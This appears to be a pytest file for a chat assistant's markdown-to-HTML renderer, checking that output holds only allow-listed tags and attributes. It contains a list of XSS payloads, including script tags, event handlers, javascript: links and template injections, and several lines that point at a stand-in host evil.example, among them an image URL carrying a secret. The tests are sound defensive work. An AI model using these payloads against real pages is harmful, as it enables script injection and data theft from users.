"""Whatever a model or a document says, only known elements with known attributes come out."""

from html.parser import HTMLParser

import pytest

from assistant.ui.markup import element, escape, markdown

ELEMENTS = {
    *(
        "p",
        "strong",
        "em",
        "s",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "hr",
    ),
    *("br", "a", "span", "div", "table", "thead", "tbody", "tr", "th", "td", "button"),
}
ATTRIBUTES = {"class", "href", "target", "rel", "style", "start", "type", "data-local", "data-n"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>go</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](//evil.example)",
    '[click](https://a.example/"onmouseover="alert(1))',
    '[click](https://a.example "t\\" onclick=alert(1)")',
    "![x](https://evil.example/p.png?secret=1)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example/p.png)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "<https://evil.example/<script>>",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [1] |",
    "[1]<script>alert(1)</script>[2]",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${1}`",
    "# <img src=x onerror=alert(1)>",
    "\u202e<script>gnp.exe",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<" * 2000,
    "[" * 500 + "x" + "]" * 500,
]


class Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.bad.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.bad.append(f"{tag} {name}")
            if name == "href" and not (value or "").lower().startswith(("http://", "https://", "mailto:")):
                self.bad.append(f"href {value}")
            if name == "style" and value not in ("text-align:left", "text-align:right", "text-align:center"):
                self.bad.append(f"style {value}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_stays_text(payload: str) -> None:
    checker = Checker()
    checker.feed(markdown(payload, marks=[1, 2]))
    assert checker.bad == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_values_stay_inside_their_attribute(payload: str) -> None:
    html = element("button", escape(payload), title=payload, class_="x")

    class One(HTMLParser):
        seen: tuple[tuple[str, list[tuple[str, str | None]]], ...] = ()

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.seen = (*self.seen, (tag, attrs))

    parser = One()
    parser.feed(html)
    assert [(tag, [name for name, _ in attrs]) for tag, attrs in parser.seen] == [("button", ["title", "class"])]


def test_images_are_never_fetched() -> None:
    html = markdown("![a map](https://evil.example/p.png)")
    assert "<img" not in html and "evil.example" not in html and "a map" in html


def test_links_open_elsewhere_without_telling_from_where() -> None:
    html = markdown("[the rules](https://a.example/rules)")
    assert 'href="https://a.example/rules"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_only_known_marks_become_buttons() -> None:
    html = markdown("six books [1], see [7]", marks=[1, 2])
    assert html.count("<button") == 1 and 'data-n="1"' in html and "[7]" in html


def test_marks_can_be_hidden_altogether() -> None:
    assert "[1]" not in markdown("six books [1]", hide_marks=True)


def test_code_keeps_its_text() -> None:
    assert "if a &lt; b: print(&quot;x&quot;)" in markdown('```python\nif a < b: print("x")\n```')


def test_markdown_tables_and_korean_survive() -> None:
    html = markdown("| 요일 | 시간 |\n|---|---|\n| 토요일 | 9–18시 |")
    assert '<div class="wide"><table>' in html and "<td>토요일</td>" in html
